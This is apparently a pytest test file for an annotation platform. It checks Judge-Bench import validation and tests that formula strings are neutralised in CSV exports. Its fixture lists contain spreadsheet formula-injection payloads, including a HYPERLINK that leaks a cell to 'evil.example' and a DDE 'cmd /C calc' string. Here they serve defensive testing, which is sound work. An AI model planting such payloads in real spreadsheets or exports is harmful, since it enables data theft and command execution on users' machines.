        (jb(instances={"0": {}}), "a Judge-Bench file is an object with an 'instances' list"),
        (jb(instances="x"), "a Judge-Bench file is an object with an 'instances' list"),
        (jb(instances=[]), "the file holds no inputs"),
        (jb(instances__1="not an object"), "instances[1]: each instance must be an object"),
        (jb(annotations={"pref": {}}), "declares its judged properties in 'annotations'"),
        (jb(annotations=[]), "declares its judged properties in 'annotations'"),
        (jb(annotations=["pref"]), "annotations[0]: each judged property needs a 'metric' name"),
        (jb(annotations__0__metric=5), "annotations[0]: each judged property needs a 'metric'"),
        (jb(annotations__0__category="ordinal"), "annotations[0] ('pref'): unknown category"),
        (jb(annotations__0__labels_list="ab"), "categorical needs a 'labels_list'"),
        (jb(annotations__0__labels_list=["model_a"]), "categorical needs a 'labels_list'"),
        (
            jb(annotations__0__labels_list=["good", "bad"]),
            "'pref': cannot tell which output label(s) ['good', 'bad'] prefer",
        ),
        (jb(instances__0__id={"a": 1}), "instances[0]: 'id' must be text or a whole number"),
        (jb(instances__1__id=True), "instances[1]: 'id' must be text or a whole number"),
        (
            jb(instances__0__instance__input={"q": 1}),
            "instances[0] (id 'j0'): 'input' must be text",
        ),
        (
            jb(instances__1__instance__output_b=7),
            "instances[1] (id 'j1'): output_a and output_b must be non-empty text",
        ),
        (
            jb(instances__0__annotations=["model_a"]),
            "instances[0] (id 'j0'): 'annotations' must be an object mapping each property",
        ),
        (
            jb(instances__0__annotations__pref=["model_a"]),
            "instances[0] (id 'j0'): 'pref' must be an object with 'individual_human_scores'",
        ),
        (
            jb(instances__0__annotations__pref__individual_human_scores=5),
            "instances[0] (id 'j0'): 'pref' 'individual_human_scores' must be a list",
        ),
        (
            jb(instances__0__annotations__pref__individual_human_scores="model_a"),
            "instances[0] (id 'j0'): 'pref' 'individual_human_scores' must be a list",
        ),
    ],
)
def test_judgebench_of_the_wrong_shape_is_named(existing, data, message):
    errors = rejected(data, "x.json")
    assert any(message in e for e in errors), errors


@pytest.mark.parametrize(
    ("prop", "instance", "message"),
    [
        (
            {"metric": "fluency", "category": "graded", "worst": 1, "best": "5"},
            "a text",
            "annotations[0] ('fluency'): graded needs numeric 'worst' and 'best'",
        ),
        (
            {"metric": "fluency", "category": "graded", "worst": False, "best": True},
            "a text",
            "annotations[0] ('fluency'): graded needs numeric 'worst' and 'best'",
        ),
        (
            {"metric": "fluency", "category": "graded", "worst": 1, "best": 1e999},
            "a text",
            "line 1: a number is not finite (Infinity at column 82)",
        ),
        (
            {"metric": "fluency", "category": "graded", "worst": 1.5, "best": 5},
            "a text",
            "'fluency': graded scale 1.5–5 must be 2 to 21 whole points",
        ),
        (
            {"metric": "fluency", "category": "graded", "worst": 1, "best": 5},
            ["not", "text"],
            "instances[0] (id 'l0'): 'instance' must be text or an object",
        ),
        (
            {"metric": "fluency", "category": "graded", "worst": 1, "best": 5},
            {"output": 3},
            "instances[0] (id 'l0'): no output text",
        ),
        (
            {"metric": "f" * 201, "category": "graded", "worst": 1, "best": 5},
            "a text",
            "is longer than 200 characters",
        ),
    ],
)
def test_judgebench_likert_of_the_wrong_shape_is_named(existing, prop, instance, message):
    doc = {
        "annotations": [prop],
        "instances": [
            {"id": "l0", "instance": instance, "annotations": {prop["metric"]: None}},
        ],
    }
    errors = rejected(json.dumps(doc).encode(), "l.json")
    assert any(message in e for e in errors), errors


def test_real_judgebench_file_with_one_damaged_instance_is_refused_whole(existing):
    doc = json.loads(LLMBAR.read_text())
    doc["instances"][60]["annotations"] = {"quality_single_turn": "model_a"}
    errors = rejected(json.dumps(doc).encode(), "llmbar.json")
    assert len(errors) == 1 and errors[0].startswith("instances[60] (id ")
    assert Input.objects.filter(external_id=doc["instances"][0]["id"]).count() == 0


# --- formula injection through the CSV exports --------------------------------------------------
#: Strings a spreadsheet would run as formulas or that hide one behind a tab or a CR.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
#: A formula hidden behind a line break inside a cell: harmless only while the cell is
#: quoted, else a reader starts a new row (and a new first cell) at the break.
HIDDEN = ['x\r=HYPERLINK("http://evil.example")', "y\n@SUM(A1:A9)", "z\r\n-1+1"]
WORKERS = ['=WORKER("one")', "+WORKER|two"]


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), (cell, row)


@pytest.fixture
def injected(existing) -> list[Study]:
    """Formula strings as input ids, input texts, outputs, system names, categorical Likert
    labels, worker ids and imported annotations; every item annotated."""
    pairwise = services.study_import(
        jsonl(
            [
                {
                    "id": formula,
                    "input": formula,
                    "reference": formula,
                    "outputs": {system: formula for system in FORMULAS[:4]},
                }
                for formula in FORMULAS + HIDDEN
            ],
            {"kind": "pairwise", "redundancy": 1, "systems": FORMULAS[:4], "open_links": True},
        ),
        filename="formulas.jsonl",
        overrides={"gold_rate_start": 0.0, "gold_rate_end": 0.0},
    )
    likert = services.study_import(
        jsonl(
            [{"id": f, "input": f, "outputs": {FORMULAS[4]: f, FORMULAS[5]: f}} for f in FORMULAS],
            {
                "kind": "likert",
                "redundancy": 1,
                "criteria": [{"name": "verdict", "labels": FORMULAS}],
            },
        ),
        filename="likert.jsonl",
        overrides={"gold_rate_start": 0.0, "gold_rate_end": 0.0},
    )
    imported = services.study_import(
        json.dumps(
            {
                "dataset": FORMULAS[0],
                "annotations": [
                    {"metric": "-verdict", "category": "categorical", "labels_list": FORMULAS}
                ],
                "instances": [
                    {
                        "id": f,
                        "instance": {"input": f, "output": f},
                        "annotations": {"-verdict": {"individual_human_scores": FORMULAS}},
                    }
                    for f in FORMULAS
                ],
            }
        ).encode(),
        filename="judged.json",
    )
    for n, study in enumerate((pairwise, likert)):
        worker = services.participation_enter(study=study, platform="link", external_id=WORKERS[n])
        k = 0
        while (a := next_lease(participation=worker)) is not None:
            scores = {"verdict": FORMULAS[k % len(FORMULAS)]} if study.kind == "likert" else None
            answer = None if scores else "left"
            services.annotation_submit(
                annotator=worker.annotator, token=a.token, data={"answer": answer, "scores": scores}
            )
            k += 1
    assert Annotation.objects.filter(study=pairwise).count() == 9 * 6
    assert Annotation.objects.filter(study=likert).count() == 6 * 2
    assert Annotation.objects.filter(study=imported).count() == 6 * 6
    return [pairwise, likert, imported]


def table(text: str) -> tuple[list[list[str]], list[dict[str, str]]]:
    """A CSV export as rows of cells and as dicts (CR and LF inside cells kept)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows, [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def check_export(study: Study, text: str) -> list[dict[str, str]]:
    rows, records = table(text)
    assert len(rows) == 1 + Annotation.objects.filter(study=study).count(), "rows were split"
    assert_inert(rows)
    assert "WORKER" not in text  # the workers' own ids never leave: pseudonyms only
    return records


def neutralised(values: list[str]) -> set[str]:
    return {"'" + v for v in values}


def test_formula_strings_are_neutralised_in_the_csv_export_api(injected):
    pairwise, likert, imported = injected
    client = api_client()
    exports = {}
    for study in injected:
        response = client.get(f"/api/studies/{study.pk}/annotations/", {"format": "csv"})
        assert response.status_code == 200
        exports[study.pk] = check_export(study, response.content.decode())
    rows = exports[pairwise.pk]
    assert {r["input_id"] for r in rows} == neutralised(FORMULAS) | set(HIDDEN)
    assert {r["system_a"] for r in rows} | {r["system_b"] for r in rows} == neutralised(
        FORMULAS[:4]
    )
    assert {r["preferred_system"] for r in rows} <= neutralised(FORMULAS[:4])
    assert {r["score_verdict"] for r in exports[likert.pk]} == neutralised(FORMULAS)
    assert {r["system_a"] for r in exports[likert.pk]} == neutralised(FORMULAS[4:])
    assert {r["score_-verdict"] for r in exports[imported.pk]} == neutralised(FORMULAS)


def test_formula_strings_are_neutralised_by_the_export_labels_command(injected, tmp_path):
    pairwise, likert, imported = injected
    for study in injected:
        out = tmp_path / f"{study.pk}.csv"
        call_command("export_labels", str(study.pk), "--format", "csv", "-o", str(out))
        with out.open(newline="", encoding="utf-8") as handle:
            rows = check_export(study, handle.read())
        if study == pairwise:
            assert {r["input_id"] for r in rows} == neutralised(FORMULAS) | set(HIDDEN)
        if study == imported:
            assert {r["score_-verdict"] for r in rows} == neutralised(FORMULAS)
            assert {r["input_id"] for r in rows} == neutralised(FORMULAS)


def test_neutralising_keeps_the_text_after_the_apostrophe():
    """What a researcher gets back: the original text behind one apostrophe."""
    rows, records = table("".join(csv_text([{"input_id": f, "scores": None} for f in FORMULAS])))
    assert [r["input_id"] for r in records] == ["'" + f for f in FORMULAS]
